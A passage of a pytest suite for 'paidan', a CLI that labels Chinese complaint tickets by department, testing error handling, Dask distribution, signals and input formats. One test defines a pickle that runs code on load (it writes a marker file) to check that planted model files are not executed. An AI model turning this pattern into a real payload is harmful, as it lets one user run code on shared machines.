    import signal
    import subprocess
    import sys

    src = tmp_path / "in.jsonl"
    row = {"id": "L1", "text": TINY_TICKETS[0][1], "notes": "附件" * 20_000}
    src.write_text(json.dumps(row, ensure_ascii=False) + "\n", encoding="utf-8")
    out = tmp_path / "out.xlsx"
    command = [sys.executable, "-m", "paidan", "label", str(src), "--model", str(tiny_model_dir)]
    proc = subprocess.Popen(
        [*command, "--out", str(out), "--jobs", "1"],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert proc.stdout is not None and proc.stderr is not None
    proc.stdout.close()  # the reader is gone before the summary is printed
    stderr = proc.stderr.read()
    assert proc.wait(timeout=300) == 128 + signal.SIGPIPE, stderr
    assert "Traceback" not in stderr and "Exception ignored" not in stderr, stderr
    assert "warning: 1 cell in 1 row held more than the 32,767 characters" in stderr
    assert len(read_output(out)) == 1 and (tmp_path / "out.xlsx.summary.json").is_file()


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_cli_output_to_a_full_disk_is_one_line_exit_1_and_still_warns(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # `paidan label … > log` on a full disk (ENOSPC; EIO alike): a 30-line traceback from inside
    # rich, and the warnings after the summary lost. `models list --json` the same.
    import subprocess
    import sys

    src = tmp_path / "in.jsonl"
    row = {"id": "L1", "text": TINY_TICKETS[0][1], "notes": "附件" * 20_000}
    src.write_text(json.dumps(row, ensure_ascii=False) + "\n", encoding="utf-8")
    out = tmp_path / "out.xlsx"
    env = {
        **os.environ,
        "PYTHONPATH": str(Path(__file__).resolve().parents[2]),
        "PAIDAN_MODEL_ROOT": str(tmp_path / "models"),
        "PAIDAN_DATA_DIR": str(tmp_path / "var"),
    }
    said = "error: cannot write to standard output: No space left on device"
    model = ["--model", str(tiny_model_dir)]
    commands = {
        "label": ["label", str(src), *model, "--out", str(out), "--jobs", "1"],
        "models list": ["models", "list", "--json"],
    }
    stderr = {}
    for name, args in commands.items():
        with open("/dev/full", "w") as full:
            proc = subprocess.run(
                [sys.executable, "-m", "paidan", *args],
                cwd=tmp_path,
                env=env,
                stdout=full,
                stderr=subprocess.PIPE,
                text=True,
                timeout=300,
            )
        stderr[name] = proc.stderr
        assert proc.returncode == 1, proc.stderr
        assert "Traceback" not in proc.stderr and "Exception ignored" not in proc.stderr
        assert proc.stderr.strip().splitlines()[-1] == said, proc.stderr
        assert proc.stderr.count(said) == 1
    assert "warning: 1 cell in 1 row held more than the 32,767 characters" in stderr["label"]
    assert len(read_output(out)) == 1 and (tmp_path / "out.xlsx.summary.json").is_file()


def test_an_output_over_an_input_is_refused_before_anything_is_written(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # `label backlog.xlsx --out backlog.xlsx --force` replaced the workbook (its other sheets with
    # it); an output inside an input directory was read back as input by the next run.
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["id", "title", "text"])
    for row in ticket_rows(3):
        book.active.append(row)
    book.create_sheet("处理记录").append(["日期", "备注"])
    backlog = tmp_path / "backlog.xlsx"
    book.save(backlog)
    before = backlog.read_bytes()
    parts = tmp_path / "parts"
    parts.mkdir()
    write_csv(parts / "a.csv", ticket_rows(4))
    model = ["--model", str(tiny_model_dir), "--jobs", "1"]

    cases = [
        (  # --force replaced the workbook with the labels
            [str(backlog), "--out", str(backlog), "--force"],
            "--out {} is the input {}; name another file (the input would be replaced)",
            backlog,
        ),
        (  # nothing is replaced; the next `paidan label parts` read l.csv as a backlog file
            [str(parts), "--out", str(parts / "l.csv")],
            "--out {} is inside the input {}; name a file outside it (the next run would read it "
            "as input)",
            parts,
        ),
    ]
    for args, expected, where in cases:
        res = CliRunner().invoke(app, ["label", *args, *model])
        assert res.exit_code == 2, res.output
        message = expected.format(args[2], where)
        assert message in " ".join(res.output.split()), res.output
        assert len(res.output.strip().splitlines()) == 1 and "Traceback" not in res.output
    assert backlog.read_bytes() == before
    assert sorted(p.name for p in parts.iterdir()) == ["a.csv"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["backlog.xlsx", "parts"]

    # A JSON input named as a summary would be: refused too, not overwritten at the end.
    export = tmp_path / "out.csv.summary.json"
    export.write_text(json.dumps([{"id": "J1", "text": "老板拖欠工资"}]), encoding="utf-8")
    with pytest.raises(
        OutputPathError, match=r"would write .*out\.csv\.summary\.json, which is the input"
    ):
        label([export], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert not (tmp_path / "out.csv").exists()


def test_a_file_among_the_inputs_twice_is_refused(tiny_model_dir: Path, tmp_path: Path) -> None:
    # `paidan label exports/ exports/2024-03.csv` labelled March twice: each of its tickets came
    # back twice under one id, without a word, and the summary counted them twice.
    exports = tmp_path / "exports"
    exports.mkdir()
    write_csv(exports / "2024-02.csv", ticket_rows(2))
    march = write_csv(exports / "2024-03.csv", ticket_rows(3))
    out = tmp_path / "out.csv"
    latest = tmp_path / "latest.csv"
    latest.symlink_to(march)  # a link kept to the newest export
    for inputs, named in (
        ([exports, march], f"{march} is"),
        ([march, march], f"{march} is"),
        ([exports, exports], f"{exports / '2024-02.csv'}, {march} are"),
        ([exports, latest], f"{march} (again as {latest}) is"),
    ):
        with pytest.raises(LabelError) as e:
            label(inputs, tiny_model_dir, out, jobs=1)
        assert str(e.value) == (
            f"{named} among the inputs twice (given twice, given and in a directory given, or "
            "through a symbolic link): each of its rows would come back twice; name each file once"
        )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["exports", "latest.csv"]
    label([exports], tiny_model_dir, out, jobs=1)
    assert len(read_output(out)) == 5


def test_gc_keeps_the_model_a_label_run_reads(
    tiny_model_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # `paidan models gc` deleted a version a long `paidan label` run was using (its worker
    # processes, and Dask's, read the model from disk when they start).

    import training.label
    from model import registry

    root = three_versions(tiny_model_dir, tmp_path, registered=True)  # gc deletes such only
    registry.set_current(root, "v3", record=False)
    collected: list[tuple[list[str], list[str]]] = []
    real = training.label.label

    def gc_then_label(*args: object, **kwargs: object) -> object:
        collected.append(registry.gc(root, keep=1))  # while the command runs
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(training.label, "label", gc_then_label)
    src = write_csv(tmp_path / "in.csv", ticket_rows(5))
    out = tmp_path / "out.csv"
    res = CliRunner().invoke(
        app,
        ["label", str(src), "--model", "v1", "--out", str(out), "--jobs", "1"],
        env={"PAIDAN_MODEL_ROOT": str(root)},
    )
    assert res.exit_code == 0, res.output
    assert collected == [(["v2"], ["v1"])]
    assert len(read_output(out)) == 5
    assert registry.gc(root, keep=1) == (["v1"], [])  # the run is over: no lease left


@pytest.mark.parametrize(
    ("options", "said"),
    [
        (["--scheduler", "tcp://192.0.2.1:8786"], "--scheduler needs"),
        (["--upload-model"], "--upload-model needs"),
        (
            ["--scheduler", "tcp://192.0.2.1:8786", "--upload-model"],
            "--scheduler and --upload-model need",
        ),
        (["--engine", "local", "--upload-model"], "--upload-model needs"),
    ],
)
def test_dask_options_without_the_dask_engine_are_refused(
    tiny_model_dir: Path, tmp_path: Path, options: list[str], said: str
) -> None:
    # They were ignored without a word: the backlog was labelled on this machine, exit 0.
    src = write_csv(tmp_path / "in.csv", ticket_rows(3))
    args = ["label", str(src), "--model", str(tiny_model_dir), "--out", str(tmp_path / "o.csv")]
    res = CliRunner().invoke(app, [*args, *options])
    assert res.exit_code == 2, res.output
    assert res.output == (
        f"error: {said} --engine dask (without it the backlog is labelled on this machine)\n"
    )
    assert [p.name for p in tmp_path.iterdir()] == ["in.csv"]


def test_jobs_with_a_scheduler_is_refused(tiny_model_dir: Path, tmp_path: Path) -> None:
    # --jobs sizes the LocalCluster; with --scheduler it was ignored without a word.
    pytest.importorskip("distributed")
    src = write_csv(tmp_path / "in.csv", ticket_rows(3))
    args = ["label", str(src), "--model", str(tiny_model_dir), "--out", str(tmp_path / "o.csv")]
    dask = ["--engine", "dask", "--scheduler", "tcp://192.0.2.1:8786"]
    res = CliRunner().invoke(app, [*args, *dask, "--jobs", "4"])
    assert res.exit_code == 2, res.output
    assert res.output.startswith("error: --jobs sets the workers of the LocalCluster")
    assert "dask worker --nworkers N" in res.output
    assert [p.name for p in tmp_path.iterdir()] == ["in.csv"]


def test_an_unknown_engine_is_refused_before_anything_is_written(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # `--engine Dask` was refused only after OUTPUT.parts/ was made, and the empty directory stayed.
    src = write_csv(tmp_path / "in.csv", ticket_rows(3))
    args = ["label", str(src), "--model", str(tiny_model_dir), "--out", str(tmp_path / "o.csv")]
    res = CliRunner().invoke(app, [*args, "--engine", "Dask"])
    assert res.exit_code == 2, res.output
    assert res.output == "error: unknown engine 'Dask'; use 'local' or 'dask'\n"
    assert [p.name for p in tmp_path.iterdir()] == ["in.csv"]


def test_a_resumed_run_that_fails_to_start_keeps_its_parts(
    tiny_model_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Only a parts directory the failed run made itself is removed.
    import training.label

    src = write_csv(tmp_path / "in.csv", ticket_rows(8))
    out = tmp_path / "out.csv"

    def stop(stage: str, done: int, total: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        label([src], tiny_model_dir, out, jobs=1, chunk_size=4, progress=stop)
    assert training.label.kept_chunks(out) == 1

    def unavailable(*args: object) -> None:
        raise LabelError("the engine cannot start")

    monkeypatch.setattr(training.label, "_start_engine", unavailable)
    with pytest.raises(LabelError, match="cannot start"):
        label([src], tiny_model_dir, out, jobs=1, chunk_size=4, resume=True)
    assert training.label.kept_chunks(out) == 1
    with pytest.raises(LabelError, match="cannot start"):
        label([src], tiny_model_dir, out, jobs=1, chunk_size=4, force=True)
    assert not (tmp_path / "out.csv.parts").exists()


def test_an_unreachable_dask_scheduler_is_a_clear_error(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    pytest.importorskip("distributed")
    import dask

    src = write_csv(tmp_path / "in.csv", ticket_rows(3))
    # It was an OSError traceback from deep inside distributed.
    expected = re.escape("cannot reach the Dask scheduler at tcp://127.0.0.1:1")
    connect = {"distributed.comm.timeouts.connect": "2s"}
    with dask.config.set(connect), pytest.raises(LabelError, match=expected):
        label(
            [src],
            tiny_model_dir,
            tmp_path / "out.csv",
            engine="dask",
            scheduler="tcp://127.0.0.1:1",
        )
    assert [p.name for p in tmp_path.iterdir()] == ["in.csv"]  # no empty out.csv.parts either


def test_an_adaptive_dask_cluster_scaled_to_zero_gets_the_chunks_with_a_warning(
    tiny_model_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    # The run waited for ever, silently, on a scheduler with no workers; then it waited for a
    # worker before submitting anything and was refused, which failed every run on an adaptive
    # cluster scaled to zero (dask-kubernetes, dask-gateway: it starts workers for submitted work).
    pytest.importorskip("distributed")
    from distributed import LocalCluster

    import training.label

    monkeypatch.setattr(training.label, "DASK_WORKER_WAIT_SECONDS", 3)
    src = write_csv(tmp_path / "in.csv", ticket_rows(3))
    out = tmp_path / "out.csv"
    with LocalCluster(n_workers=0, processes=False, dashboard_address=None) as cluster:
        cluster.adapt(minimum=0, maximum=1, interval="200ms")
        address = cluster.scheduler_address
        label([src], tiny_model_dir, out, engine="dask", scheduler=address)
    assert f"the Dask scheduler at {address} has no workers yet: the chunks wait" in caplog.text
    label([src], tiny_model_dir, tmp_path / "local.csv", jobs=1)
    assert len(read_output(out)) == 3
    assert out.read_bytes() == (tmp_path / "local.csv").read_bytes()


def test_upload_model_to_a_dask_scheduler_without_workers_is_refused_after_a_bounded_wait(
    tiny_model_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    # --upload-model sends the model to the running workers before any chunk: with none, the run
    # waited for ever, silently.
    pytest.importorskip("distributed")
    import distributed
    from distributed import LocalCluster

    import training.label

    def submit(*args: object, **kwargs: object) -> None:
        raise AssertionError("a chunk was submitted to a cluster without workers")

    monkeypatch.setattr(distributed.Client, "submit", submit)
    monkeypatch.setattr(training.label, "DASK_WORKER_WAIT_SECONDS", 1)
    src = write_csv(tmp_path / "in.csv", ticket_rows(3))
    with LocalCluster(n_workers=0, processes=False, dashboard_address=None) as cluster:
        address = cluster.scheduler_address
        with pytest.raises(LabelError) as refused:
            label(
                [src],
                tiny_model_dir,
                tmp_path / "out.csv",
                engine="dask",
                scheduler=address,
                upload_model=True,
            )
    assert str(refused.value) == (
        f"the Dask scheduler at {address} has no workers (none joined in 1 s), and "
        f"--upload-model sends the model to running workers; start some (`dask worker {address}`) "
        "and rerun the command"
    )
    assert "--upload-model sends the model to running workers, waiting up to 1 s" in caplog.text
    assert [p.name for p in tmp_path.iterdir()] == ["in.csv"]


def test_a_dask_worker_that_cannot_see_the_model_is_named_with_the_way_out(tmp_path: Path) -> None:
    # Shared-storage mode, a worker without the model mount: "error: <dir> is not a directory",
    # about a directory that exists where the command runs; neither the worker nor --upload-model.
    pytest.importorskip("distributed")
    from distributed import Client, LocalCluster

    from model.artifact import ModelLoadError
    from training.label import _label_on_dask

    elsewhere = tmp_path / "models" / "v1"  # where this machine has it, but not that worker
    with (
        LocalCluster(n_workers=1, processes=False, dashboard_address=None) as cluster,
        Client(cluster) as client,
    ):
        (worker,) = client.scheduler_info()["workers"]
        future = client.submit(_label_on_dask, str(elsewhere), "0" * 64, [("", "噪音")], False, 5)
        with pytest.raises(ModelLoadError) as failed:
            future.result()
    assert str(failed.value) == (
        f"Dask worker {worker} cannot load the model: {elsewhere} is not a directory (the workers "
        f"open the model at the path given here, and {elsewhere} is not there on that worker: put "
        "the model root on storage every worker mounts at the same path, or pass --upload-model "
        "to send them its files)"
    )


@pytest.mark.slow
def test_dask_local_cluster_gives_the_same_output(tiny_model_dir: Path, tmp_path: Path) -> None:
    pytest.importorskip("distributed")
    rows = ticket_rows(120)
    rows[5][2] = ""
    src = write_csv(tmp_path / "in.csv", rows)
    label([src], tiny_model_dir, tmp_path / "local.csv", jobs=1, chunk_size=16)
    result = label(
        [src], tiny_model_dir, tmp_path / "dask.csv", engine="dask", jobs=2, chunk_size=16
    )
    assert (tmp_path / "dask.csv").read_bytes() == (tmp_path / "local.csv").read_bytes()
    assert result.summary["rows"] == 120 and result.summary["errors"] == 1
    assert result.summary["engine"] == "dask"
    # Workers that cannot see the model directory get its files sent to them instead.
    label(
        [src],
        tiny_model_dir,
        tmp_path / "upload.csv",
        engine="dask",
        jobs=2,
        chunk_size=16,
        upload_model=True,
    )
    assert (tmp_path / "upload.csv").read_bytes() == (tmp_path / "local.csv").read_bytes()


@pytest.mark.slow
def test_a_dask_run_keeps_no_log_of_the_chunks_it_sent(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Dask kept the last 1000 messages of every connection for debugging, each holding a chunk's
    # tickets: the process running `paidan label --engine dask` grew by ~1.5 KB per row.
    pytest.importorskip("distributed")
    import dask
    from distributed import default_client

    setting = "distributed.admin.low-level-log-length"
    before = dask.config.get(setting)
    src = write_csv(tmp_path / "in.csv", ticket_rows(40))
    logs: list[int | None] = []

    def look(stage: str, done: int, total: int) -> None:
        client = default_client()
        scheduler = client.cluster.scheduler  # the LocalCluster's, in this process
        comms = [client.scheduler_comm, *scheduler.stream_comms.values()]
        comms += scheduler.client_comms.values()
        logs.extend(comm.recent_message_log.maxlen for comm in comms)
        logs.append(dask.config.get(setting))

    label(
        [src],
        tiny_model_dir,
        tmp_path / "out.csv",
        engine="dask",
        jobs=1,
        chunk_size=10,
        progress=look,
    )
    assert len(logs) > 4 and set(logs) == {0}
    assert dask.config.get(setting) == before  # only for the engine's life


@pytest.mark.slow
def test_a_dask_run_is_quiet_and_its_workers_leave_ctrl_c_to_paidan(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Every run printed ~33 INFO lines of Dask's (paidan logs warnings unless --verbose), and
    # Ctrl-C reached the LocalCluster's workers too: each printed a KeyboardInterrupt traceback
    # around paidan's one line.
    pytest.importorskip("distributed")
    import logging
    import signal

    from distributed import default_client

    def sigint_blocked() -> bool:
        return signal.SIGINT in signal.pthread_sigmask(signal.SIG_BLOCK, [])

    levels = {name: logging.getLogger(name).level for name in ("distributed", "distributed.client")}
    src = write_csv(tmp_path / "in.csv", ticket_rows(20))
    seen: list[object] = []

    def look(stage: str, done: int, total: int) -> None:
        if seen:
            return
        client = default_client()
        seen.append(logging.getLogger("distributed.scheduler").getEffectiveLevel())
        seen.append(set(client.run(sigint_blocked).values()))
        http = client.cluster.scheduler.http_server  # on a free port of this machine only
        seen.append((http.address, http.port != 8787))
        seen.append(sigint_blocked())  # this process still takes Ctrl-C

    label(
        [src],
        tiny_model_dir,
        tmp_path / "out.csv",
        engine="dask",
        jobs=2,
        chunk_size=5,
        progress=look,
    )
    assert seen == [logging.WARNING, {True}, ("127.0.0.1", True), False]
    assert {name: logging.getLogger(name).level for name in levels} == levels


def test_ctrl_c_while_a_cluster_starts_is_raised_once_it_is_up() -> None:
    # Ctrl-C in the middle of LocalCluster's start left a worker process running and printed a
    # "Fatal Python error" from a worker being started.
    import signal

    from training.label import _signals_deferred

    handler = signal.getsignal(signal.SIGINT)
    ran = []
    with pytest.raises(KeyboardInterrupt), _signals_deferred():
        signal.raise_signal(signal.SIGINT)
        ran.append("the start went on")
    assert ran == ["the start went on"]
    assert signal.getsignal(signal.SIGINT) is handler
    assert signal.SIGINT not in signal.pthread_sigmask(signal.SIG_BLOCK, [])


@pytest.mark.slow
def test_sigterm_while_the_dask_cluster_closes_stops_the_run_once_it_is_closed(
    tiny_model_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    new_children: Callable[[], list[Any]],
) -> None:
    # As for the local pool: paidan's Terminated, raised in the middle of LocalCluster.close,
    # left the run's cluster half closed, its worker processes running.
    pytest.importorskip("distributed")
    from distributed import LocalCluster

    from paidan.cli import Terminated, stop_on_sigterm

    src = write_csv(tmp_path / "in.csv", ticket_rows(8))
    close = LocalCluster.close

    def sigterm_meanwhile(self: Any, *args: Any, **kwargs: Any) -> Any:
        os.kill(os.getpid(), signal.SIGTERM)
        return close(self, *args, **kwargs)

    monkeypatch.setattr(LocalCluster, "close", sigterm_meanwhile)
    restore = stop_on_sigterm()
    try:
        with pytest.raises(Terminated):
            label([src], tiny_model_dir, tmp_path / "out.csv", engine="dask", jobs=1, chunk_size=4)
        assert new_children() == []
    finally:
        restore()
        for child in new_children():
            child.kill()


def test_a_signal_without_a_python_handler_is_not_held_back() -> None:
    # Once the CLI's handler has taken a first SIGTERM, SIGTERM's action is the default again: a
    # second, while the pool shuts down, ends the process at once (no waiting for the workers).
    import signal

    from training.label import _signals_deferred

    previous = signal.signal(signal.SIGTERM, signal.SIG_DFL)
    try:
        with _signals_deferred(signal.SIGINT, signal.SIGTERM):
            assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL
            blocked = signal.pthread_sigmask(signal.SIG_BLOCK, [])
            assert signal.SIGINT in blocked and signal.SIGTERM not in blocked
    finally:
        signal.signal(signal.SIGTERM, previous)


class _RunsCode:
    """A pickle that runs code when it is loaded (writes a marker file)."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        return (self.marker.write_text, ("ran",))


def test_an_uploaded_model_is_loaded_from_the_bytes_sent_not_a_planted_directory(
    tiny_model_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A worker reused any $TMPDIR/paidan-models/<version>-<sha16> that already existed, checked
    # only against the metadata.json inside it: another user of the worker host could plant a
    # pickle there (it ran in the worker) or another model (it labelled the backlog).
    import hashlib
    import shutil

    import joblib

    import training.label
    from model.artifact import load_router
    from training.label import ModelBundle, cached_router, predict_rows

    meta = json.loads((tiny_model_dir / "metadata.json").read_text(encoding="utf-8"))
    bundle = ModelBundle.read(tiny_model_dir, meta)
    worker_tmp = tmp_path / "worker-tmp"
    worker_tmp.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(worker_tmp))
    monkeypatch.setattr(training.label, "_CACHE", {})
    planted = (
        worker_tmp / "paidan-models" / f"{meta['version']}-{meta['files']['router.joblib'][:16]}"
    )
    shutil.copytree(tiny_model_dir, planted)
    marker = tmp_path / "planted-pickle-ran"
    for name in ("router.joblib", "serving.joblib"):
        (planted / name).chmod(0o600)
        joblib.dump(_RunsCode(marker), planted / name)
        meta["files"][name] = hashlib.sha256((planted / name).read_bytes()).hexdigest()
    (planted / "metadata.json").chmod(0o600)
    (planted / "metadata.json").write_text(json.dumps(meta), encoding="utf-8")

    sha256 = json.loads(bundle.files["metadata.json"])["files"]["router.joblib"]
    router = cached_router(bundle, sha256)
    assert not marker.exists()
    sent, _ = load_router(tiny_model_dir, serving=True)
    tickets = [(title, text) for title, text, _, _ in TINY_TICKETS]
    assert predict_rows(router, tickets) == predict_rows(sent, tickets)
    # Unpacked into a private directory of its own, removed once loaded.
    assert sorted(p.name for p in worker_tmp.iterdir()) == ["paidan-models"]

    # Shared storage: a worker whose copy of the path holds another model refuses it.
    monkeypatch.setattr(training.label, "_CACHE", {})
    with pytest.raises(ModelLoadError, match="holds another model here"):
        cached_router(str(tiny_model_dir), "0" * 64)


def test_batch_gives_the_joint_dispatch_advice_the_router_gives(sample_model_dir: Path) -> None:
    # The bundled sample holds joint dispatches (会办), so its model advises co-departments; a batch
    # must give each ticket exactly the advice Router.predict gives it, searched block by block.
    from model.artifact import load_router
    from model.resources import sample_path
    from model.router import QUERY_BLOCK
    from training.label import predict_rows

    router, _ = load_router(sample_model_dir)
    assert router.advises_joint
    df = pd.read_csv(sample_path(), dtype=str, keep_default_na=False)
    # More rows than one search block, the joint tickets among them.
    rows = df[df["department"].str.contains("；")].head(30)
    rows = pd.concat([rows, df.head(QUERY_BLOCK + 20)])
    tickets = list(zip(rows["title"], rows["text"], strict=True))
    got = predict_rows(router, tickets)
    assert got == _as_rows(router.predict(tickets, top_k=3, explain=False))
    advised = [json.loads(row[6]) for row in got[:30]]
    assert sum(1 for a in advised if a) >= 20, (
        "most joint tickets should be advised a co-department"
    )
    assert all(row[6] is None for row in predict_rows(router, tickets[:5], joint=False))


def test_label_writes_co_departments_and_counts_them(
    sample_model_dir: Path, tiny_model_dir: Path, tmp_path: Path
) -> None:
    src = tmp_path / "in.csv"
    pd.DataFrame(
        {
            "id": ["J1", "J2", "N1"],
            "title": ["老小区楼梯扶手断裂", "暴雨后小区地下车库进水", "拖欠工资"],
            "text": [
                "单元楼梯扶手锈断了，残疾人和老人上下楼很危险，上周有老人摔伤，请残联和住建一起处理",
                "昨晚暴雨小区地下车库积水半米深，排水泵坏了，好几辆车被泡，物业说管不了",
                "我在饭店打工三个月老板一直拖欠工资不发，请人社部门帮忙追讨",
            ],
        }
    ).to_csv(src, index=False)
    res = CliRunner().invoke(
        app,
        ["label", str(src), "--model", str(sample_model_dir), "--out", str(tmp_path / "a.csv")],
    )
    assert res.exit_code == 0, res.output
    df = read_output(tmp_path / "a.csv")
    advice = [json.loads(a) for a in df["co_departments"]]
    summary = json.loads((tmp_path / "a.csv.summary.json").read_text(encoding="utf-8"))
    assert summary["joint_advice"] == sum(1 for a in advice if a) >= 1
    assert advice[0] and all(a["tickets"] for a in advice[0]), advice
    assert "joint dispatch (会办) advised for" in res.output
    counted: dict[str, int] = {}
    for a in advice:
        for d in a:
            counted[d["label"]] = counted.get(d["label"], 0) + 1
    assert summary["co_departments"] == counted

    # --no-joint: no search, the column left empty; a model without joint tickets: "[]".
    label([src], sample_model_dir, tmp_path / "b.csv", jobs=1, joint=False)
    assert (read_output(tmp_path / "b.csv")["co_departments"] == "").all()
    label([src], tiny_model_dir, tmp_path / "c.csv", jobs=1)
    assert (read_output(tmp_path / "c.csv")["co_departments"] == "[]").all()


@pytest.mark.parametrize(
    ("prefix", "indent"), [("", None), ("\ufeff", 2), ("\n  ", 1), ("\ufeff\r\n", None)]
)
def test_a_json_array_is_labelled_element_by_element(
    tiny_model_dir: Path, tmp_path: Path, prefix: str, indent: int | None
) -> None:
    # What many exports and json.dump(list_of_dicts) write was refused ("holds a JSON array;
    # ... convert it with: jq -c '.[]'"). Every element comes back, in order: one that is not an
    # object as an error row naming it, as a JSON Lines line that is not one is.
    rows: list = [
        {"编号": 1001, "内容": TINY_TICKETS[0][1], "附件": ["a.jpg"]},
        {"编号": "J2", "内容": TINY_TICKETS[6][1], "区县": "芙蓉区"},
        1003,
        ["J4", TINY_TICKETS[12][1]],
        {"内容": TINY_TICKETS[12][1]},
        {"编号": "J6", "内容": "   "},
    ]
    src = tmp_path / "export.json"
    src.write_text(prefix + json.dumps(rows, ensure_ascii=False, indent=indent), "utf-8")
    cmap = ColumnMap(text="内容", id="编号")
    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1, chunk_size=4, columns=cmap)
    df = read_output(tmp_path / "out.csv")
    assert result.summary["rows"] == len(df) == len(rows)
    assert list(df.columns[:4]) == ["编号", "内容", "附件", "区县"]
    assert list(df["编号"]) == ["1001", "J2", "", "", "", "J6"]
    assert list(df["附件"]) == ['["a.jpg"]', "", "", "", "", ""]
    assert list(df["pred_department"][:2]) == ["人社", "执法"] and df["pred_department"][4] != ""
    says = "malformed JSON: element {} of export.json: not a JSON object ({})"
    assert df["error"][2] == says.format(3, "a number")
    assert df["error"][3] == says.format(4, "an array")
    assert df["pred_department"][2] == df["pred_department"][3] == ""
    assert df["error"][0] == df["error"][1] == df["error"][4] == "" and df["error"][5] != ""


def test_cli_labels_a_json_array_with_the_column_options(tiny_model_dir: Path, tmp_path: Path):
    src = tmp_path / "export.json"
    rows = [{"工单号": f"G{i}", "诉求内容": text} for i, (_, text, _, _) in enumerate(TINY_TICKETS)]
    src.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "out.jsonl"
    args = ["label", str(src), "--model", str(tiny_model_dir), "--out", str(out), "--jobs", "1"]
    r = CliRunner().invoke(app, [*args, "--text-col", "诉求内容", "--id-col", "工单号"])
    assert r.exit_code == 0, r.output
    df = read_output(out)
    assert list(df["工单号"]) == [row["工单号"] for row in rows]
    assert list(df["pred_department"]) == [t[2] for t in TINY_TICKETS]


@pytest.mark.parametrize(
    ("data", "says"),
    [
        # Cut short: the elements labelled before the break would have been all of the file.
        ('[{"text": "老板拖欠工资"}, {"text": "油烟', "the JSON array is cut short: the file ends"),
        ('[{"text": "老板拖欠工资"}, {"text" "油烟"}, {"text": "噪音"}]', "breaks in element 2"),
        ('[{"text": "老板拖欠工资"}] {"text": "油烟"}', "text follows the end of the JSON array"),
        ('[{"text": "老板拖欠工资"},\n{"text": "油烟", "text": "已回访"}]', "element 2: the key"),
        ("[]", "the JSON array is empty"),
        ('{"total": 1, "data": [{"text": "老板拖欠工资"}]}', "holds one JSON object"),
    ],
)
def test_a_json_array_that_is_not_whole_is_refused_before_labelling(
    tiny_model_dir: Path, tmp_path: Path, data: str, says: str
) -> None:
    # Nothing is labelled: the rows after a break could not be found, so none would come back.
    src = tmp_path / "export.json"
    src.write_text(data, encoding="utf-8")
    r = CliRunner().invoke(
        app, ["label", str(src), "--model", str(tiny_model_dir), "--out", str(tmp_path / "o.csv")]
    )
    assert r.exit_code != 0
    assert says in r.output and "Traceback" not in r.output
    assert not (tmp_path / "o.csv").exists()
    with pytest.raises(TicketFileError) as e:
        label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert str(e.value).startswith(f"{src}") and says in str(e.value) and "\n" not in str(e.value)
    assert not (tmp_path / "out.csv").exists() and not (tmp_path / "out.csv.parts").exists()


def test_parquet_binary_strings_are_labelled_as_text(tiny_model_dir: Path, tmp_path: Path) -> None:
    # Un-annotated BINARY strings (Hive, Impala) were labelled as "b'\xe6…'"; now they are text,
    # and a value that is not UTF-8 is an error row naming its row and column.
    import pyarrow as pa
    import pyarrow.parquet as pq

    src = tmp_path / "in.parquet"
    texts = [TINY_TICKETS[0][1].encode(), "油烟扰民".encode("gb18030")]
    pq.write_table(
        pa.table({"id": pa.array([b"B1", b"B2"]), "text": pa.array(texts, pa.binary())}), src
    )
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert list(df["id"]) == ["B1", "B2"]
    assert df["text"][0] == TINY_TICKETS[0][1] and df["error"][0] == ""
    assert df["pred_department"][0] == "人社"
    assert df["error"][1] == "unreadable: row 2 of in.parquet: column 'text' is not UTF-8"
    assert df["pred_department"][1] == ""


def test_a_parquet_column_with_a_blank_name_keeps_its_values(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # An export that left a notes column unnamed: file_columns named it "Unnamed: 2" while the
    # reader keyed its values by "" — every value came back empty, without a word.
    import pyarrow as pa
    import pyarrow.parquet as pq

    from model.tickets import read_table

    src = tmp_path / "in.parquet"
    text = TINY_TICKETS[0][1]
    table = pa.table({"id": ["P1", "P2"], "text": [text, text], "": ["备注一", "备注二"]})
    table = table.append_column("  ", pa.array(["甲", "乙"]))
    pq.write_table(table, src)

    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert list(df.columns[:4]) == ["id", "text", "Unnamed: 2", "Unnamed: 3"]
    assert df["Unnamed: 2"].tolist() == ["备注一", "备注二"]
    assert df["Unnamed: 3"].tolist() == ["甲", "乙"]
    assert (df["error"] == "").all()
    assert list(read_table(src).columns) == list(df.columns[:4])  # as train names them


def test_json_and_parquet_booleans_are_written_as_the_file_writes_them(
